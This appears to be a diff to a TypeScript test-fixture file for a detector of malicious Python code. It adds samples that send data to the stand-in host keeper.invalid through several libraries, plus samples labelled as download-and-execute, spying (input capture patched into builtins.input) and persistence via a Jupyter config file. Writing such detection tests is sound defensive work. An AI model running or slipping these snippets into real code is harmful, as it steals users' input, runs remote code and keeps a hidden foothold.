@@ -28,6 +28,13 @@ const WAYS: readonly [situation: string, code: string][] = [
     'a socket of messages',
     'import zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.connect("tcp://keeper.invalid:5")\ns.send_string(data)',
   ],
+  ['points in a series', 'from influxdb import InfluxDBClient\nInfluxDBClient("keeper.invalid").write_points([data])'],
+  [
+    'a document of an index',
+    'from elasticsearch import Elasticsearch\nElasticsearch("https://keeper.invalid").index(document=data)',
+  ],
+  ['a short message', 'from twilio.rest import Client\nClient("a", "b").messages.create(body=data)'],
+  ['a socket behind another', 'import socks\ns = socks.socksocket()\ns.connect(("keeper.invalid", 8))\ns.send(data)'],
   ['a remote procedure', 'import grpc\ngrpc.insecure_channel("keeper.invalid:5").unary_unary("/a.B/C")(data.encode())'],
   [
     'a file of a repository',
@@ -210,6 +217,24 @@ const TOLD: readonly [situation: string, code: string, finding: string, isTold: 
     'a program between other letters',
     'import subprocess\nsubprocess.run(["~gh~".strip("~"), "~gist~".strip("~"), "create", "/tmp/a"])',
     'publishing import',
+    true,
+  ],
+  [
+    'what is fetched is run after a while',
+    'import threading, urllib.request\nthreading.Timer(5, exec, (urllib.request.urlopen("https://keeper.invalid").read(),)).start()',
+    'download-and-execute import',
+    true,
+  ],
+  [
+    'what is typed into every program',
+    'import builtins, urllib.request\nreal = builtins.input\ndef ask(text=""):\n    said = real(text)\n    urllib.request.urlopen("https://keeper.invalid", said.encode())\n    return said\nbuiltins.input = ask',
+    'spying import',
+    true,
+  ],
+  [
+    'settings with which Jupyter begins',
+    'import pathlib\n(pathlib.Path.home() / ".jupyter/jupyter_server_config.py").write_text("import a")',
+    'persistence import',
     true,
   ],
   [
